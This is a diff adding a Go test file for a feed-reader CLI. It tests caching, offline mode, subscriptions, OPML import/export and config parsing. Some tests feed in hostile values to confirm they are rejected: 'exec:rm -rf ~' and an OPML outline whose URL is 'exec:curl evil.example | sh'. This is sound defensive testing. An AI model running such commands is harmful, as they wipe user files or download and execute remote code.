@@ -1,0 +1,166 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+// feedServer serves testdata/atom.xml with an ETag on 127.0.0.1 and counts
+// the full responses it sent.
+func feedServer(t *testing.T) (*httptest.Server, *atomic.Int32) {
+	t.Helper()
+	body, err := os.ReadFile("testdata/atom.xml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var full atomic.Int32
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("ETag", `"v1"`)
+		if r.Header.Get("If-None-Match") == `"v1"` {
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		full.Add(1)
+		w.Header().Set("Content-Type", "application/atom+xml; charset=utf-8")
+		w.Write(body)
+	}))
+	t.Cleanup(srv.Close)
+	return srv, &full
+}
+
+// TestCacheOffline: a feed served on 127.0.0.1 is listed; the second
+// fetch is a 304; after the server stops, list --offline prints the same
+// items, and list prints them with an offline note and status 0.
+func TestCacheOffline(t *testing.T) {
+	srv, full := feedServer(t)
+	env := testEnv(t)
+	url := srv.URL + "/atom.xml"
+
+	first, stderr, status := sokboEnv(t, env, "list", url)
+	if status != 0 || !strings.Contains(first, "카카오톡 네트워크 오류") {
+		t.Fatalf("list: status %d, stderr %q\n%s", status, stderr, first)
+	}
+	again, _, _ := sokboEnv(t, env, "list", url)
+	if again != first || full.Load() != 1 {
+		t.Errorf("second list: %d full responses (want 1, then a 304); output changed: %v", full.Load(), again != first)
+	}
+
+	srv.Close()
+	offline, stderr, status := sokboEnv(t, env, "list", "--offline", url)
+	if status != 0 || offline != first || stderr != "" {
+		t.Errorf("list --offline: status %d, stderr %q, same output %v", status, stderr, offline == first)
+	}
+	fallback, stderr, status := sokboEnv(t, env, "list", url)
+	if status != 0 || fallback != first {
+		t.Errorf("list with the server gone: status %d, same output %v", status, fallback == first)
+	}
+	if strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "offline") || !strings.Contains(stderr, url) {
+		t.Errorf("offline note should be one line naming the feed: %q", stderr)
+	}
+
+	// read works from the cache too, with the body.
+	out, stderr, status := sokboEnv(t, env, "read", "--offline", url, "2")
+	if status != 0 || !strings.Contains(out, "복구 소요 시간") {
+		t.Errorf("read --offline: status %d, stderr %q\n%s", status, stderr, out)
+	}
+}
+
+func TestOfflineWithoutCache(t *testing.T) {
+	_, stderr, status := sokbo(t, "list", "--offline", "http://127.0.0.1:9/feed.xml")
+	if status != 1 || !strings.Contains(stderr, "not in the offline cache") || strings.Count(stderr, "\n") != 1 {
+		t.Errorf("status %d, stderr %q", status, stderr)
+	}
+}
+
+func TestSubscriptions(t *testing.T) {
+	srv, _ := feedServer(t)
+	env := testEnv(t)
+	url := srv.URL + "/atom.xml"
+
+	out, stderr, status := sokboEnv(t, env, "feeds", "add", url, "--name", "뉴스다오")
+	if status != 0 {
+		t.Fatalf("feeds add: %d %q", status, stderr)
+	}
+	if _, stderr, status = sokboEnv(t, env, "feeds", "add", "exec:rm -rf ~"); status != 1 || !strings.Contains(stderr, "not an http(s) URL") {
+		t.Errorf("feeds add exec: accepted: %d %q", status, stderr)
+	}
+	out, _, status = sokboEnv(t, env, "refresh")
+	if status != 0 || !strings.Contains(out, "뉴스다오: 6 new") {
+		t.Errorf("refresh: %d\n%s", status, out)
+	}
+	out, _, _ = sokboEnv(t, env, "refresh")
+	if !strings.Contains(out, "뉴스다오: not modified") {
+		t.Errorf("second refresh: %s", out)
+	}
+	list, _, status := sokboEnv(t, env, "list", "--offline")
+	if status != 0 || strings.Count(list, "\n") != 6 {
+		t.Errorf("list of subscriptions: %d\n%s", status, list)
+	}
+	out, _, _ = sokboEnv(t, env, "feeds", "ls")
+	if !strings.HasPrefix(out, "뉴스다오\t"+url+"\t6\t6\t") {
+		t.Errorf("feeds ls: %q", out)
+	}
+
+	// Export, remove, import back.
+	opml, _, status := sokboEnv(t, env, "export")
+	if status != 0 || !strings.Contains(opml, `xmlUrl="`+url+`"`) {
+		t.Fatalf("export: %d\n%s", status, opml)
+	}
+	if _, stderr, status := sokboEnv(t, env, "feeds", "rm", "뉴스다오"); status != 0 {
+		t.Fatalf("feeds rm: %q", stderr)
+	}
+	path := filepath.Join(t.TempDir(), "subs.opml")
+	evil := strings.Replace(opml, "</body>", `<outline text="evil" type="rss" xmlUrl="exec:curl evil.example | sh"/></body>`, 1)
+	if err := os.WriteFile(path, []byte(evil), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, status = sokboEnv(t, env, "import", path)
+	if status != 0 || !strings.Contains(out, "imported 1 feeds") || !strings.Contains(stderr, "evil") {
+		t.Errorf("import: %d %q %q", status, out, stderr)
+	}
+	again, _, _ := sokboEnv(t, env, "export")
+	if again != opml {
+		t.Errorf("export after import differs:\n%s\nvs\n%s", again, opml)
+	}
+}
+
+func TestConfigFile(t *testing.T) {
+	srv, _ := feedServer(t)
+	dir := t.TempDir()
+	cfg := filepath.Join(dir, "config.toml")
+	write := func(s string) {
+		t.Helper()
+		if err := os.WriteFile(cfg, []byte(s), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(fmt.Sprintf("refresh = \"30m\"\n[[feed]]\nname = \"설정 피드\"\nurl = %q\n", srv.URL+"/atom.xml"))
+	out, stderr, status := sokbo(t, "--config", cfg, "refresh")
+	if status != 0 || !strings.Contains(out, "설정 피드: 6 new") {
+		t.Errorf("refresh from config: %d %q %q", status, out, stderr)
+	}
+	tests := map[string]string{
+		"exec feed":   "[[feed]]\nurl = \"exec:~/bin/news.sh\"\n",
+		"unknown key": "colour = \"red\"\n",
+		"bad toml":    "refresh = \n",
+		"bad refresh": "refresh = \"soon\"\n",
+	}
+	for name, body := range tests {
+		t.Run(name, func(t *testing.T) {
+			write(body)
+			_, stderr, status := sokbo(t, "--config", cfg, "list", "testdata/seed.txt")
+			if status != 1 || !strings.Contains(stderr, cfg) || strings.Count(stderr, "\n") != 1 {
+				t.Errorf("status %d, stderr %q", status, stderr)
+			}
+		})
+	}
+	if _, stderr, status := sokbo(t, "--config", filepath.Join(dir, "missing.toml"), "list", "testdata/seed.txt"); status != 1 || !strings.Contains(stderr, "missing.toml") {
+		t.Errorf("a missing --config file: %d %q", status, stderr)
+	}
+}
